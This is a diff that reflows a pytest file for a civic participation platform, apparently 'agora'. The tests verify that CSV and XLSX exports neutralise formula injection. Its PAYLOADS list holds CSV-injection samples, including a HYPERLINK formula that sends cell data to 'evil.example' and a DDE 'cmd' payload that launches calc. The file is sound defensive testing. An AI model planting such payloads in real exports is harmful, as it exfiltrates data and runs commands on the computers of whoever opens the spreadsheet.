@@ -18,19 +18,35 @@ from agora.core.translations import tr
 from agora.spaces.models import Role
 from agora.testing import factories
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+]
 SPREADSHEET_FORMATS = {"csv", "xlsx"}
 # (manifest, format) of every component export in a spreadsheet format, and the back-office's own.
-MANIFEST_EXPORTS = {("proposals", "csv"), ("proposals", "xlsx"), ("budgets", "csv"), ("accountability", "csv"),
-                    ("debates", "csv")}
-BACKOFFICE_EXPORTS = {"evaluation_csv", "evaluation_xlsx", "accountability_csv", "budget_ballots_csv",
-                      "letters_csv"}
+MANIFEST_EXPORTS = {
+    ("proposals", "csv"),
+    ("proposals", "xlsx"),
+    ("budgets", "csv"),
+    ("accountability", "csv"),
+    ("debates", "csv"),
+}
+BACKOFFICE_EXPORTS = {"evaluation_csv", "evaluation_xlsx", "accountability_csv", "budget_ballots_csv", "letters_csv"}
 
 
 def test_every_spreadsheet_export_is_walked():
-    offered = {(manifest.name, export_format) for manifest in registry.all()
-               for export_format in manifest.exports if export_format in SPREADSHEET_FORMATS}
+    offered = {
+        (manifest.name, export_format)
+        for manifest in registry.all()
+        for export_format in manifest.exports
+        if export_format in SPREADSHEET_FORMATS
+    }
     assert offered == MANIFEST_EXPORTS
 
 
@@ -96,8 +112,12 @@ def _debates(process, payload):
 
 
 def _component_export(client, component, export_format):
-    return client.get(reverse("backoffice:component_export", kwargs={
-        "space_id": component.space_id, "component_id": component.pk, "export_format": export_format}))
+    return client.get(
+        reverse(
+            "backoffice:component_export",
+            kwargs={"space_id": component.space_id, "component_id": component.pk, "export_format": export_format},
+        )
+    )
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -107,8 +127,13 @@ def test_manifest_exports_neutralise_formulas(client, admin, process, payload):
     budgets, _budget = _budgets(process, payload, admin)
     results = _results(process, payload)
     debates = _debates(process, payload)
-    for component, export_format in [(ideas, "csv"), (ideas, "xlsx"), (budgets, "csv"), (results, "csv"),
-                                     (debates, "csv")]:
+    for component, export_format in [
+        (ideas, "csv"),
+        (ideas, "xlsx"),
+        (budgets, "csv"),
+        (results, "csv"),
+        (debates, "csv"),
+    ]:
         response = _component_export(client, component, export_format)
         assert response.status_code == 200, (component.manifest_name, export_format)
         assert_guarded(cells(response), payload)
@@ -125,16 +150,23 @@ def test_backoffice_exports_neutralise_formulas(client, admin, organization, pro
     participant = factories.UserFactory()
     factories.member_of(participant, organization)
     verifications.enable_method(actor=admin, organization=organization, method="letter")
-    verifications.request_letter(user=participant, organization=organization, full_name=payload, address=payload,
-                                 postal_code="45000", city=payload)
+    verifications.request_letter(
+        user=participant,
+        organization=organization,
+        full_name=payload,
+        address=payload,
+        postal_code="45000",
+        city=payload,
+    )
     space = {"space_id": process.pk}
     urls = {
         "evaluation_csv": reverse("proposals_admin:export_csv", kwargs={**space, "component_id": ideas.pk}),
         "evaluation_xlsx": reverse("proposals_admin:export_xlsx", kwargs={**space, "component_id": ideas.pk}),
-        "accountability_csv": reverse("accountability_admin:csv_export",
-                                      kwargs={**space, "component_id": results.pk}),
-        "budget_ballots_csv": reverse("budgets_admin:export", kwargs={
-            **space, "component_id": budgets.pk, "budget_id": budget.pk, "export_format": "csv"}),
+        "accountability_csv": reverse("accountability_admin:csv_export", kwargs={**space, "component_id": results.pk}),
+        "budget_ballots_csv": reverse(
+            "budgets_admin:export",
+            kwargs={**space, "component_id": budgets.pk, "budget_id": budget.pk, "export_format": "csv"},
+        ),
         "letters_csv": reverse("verifications_admin:letters_export"),
     }
     assert set(urls) == BACKOFFICE_EXPORTS
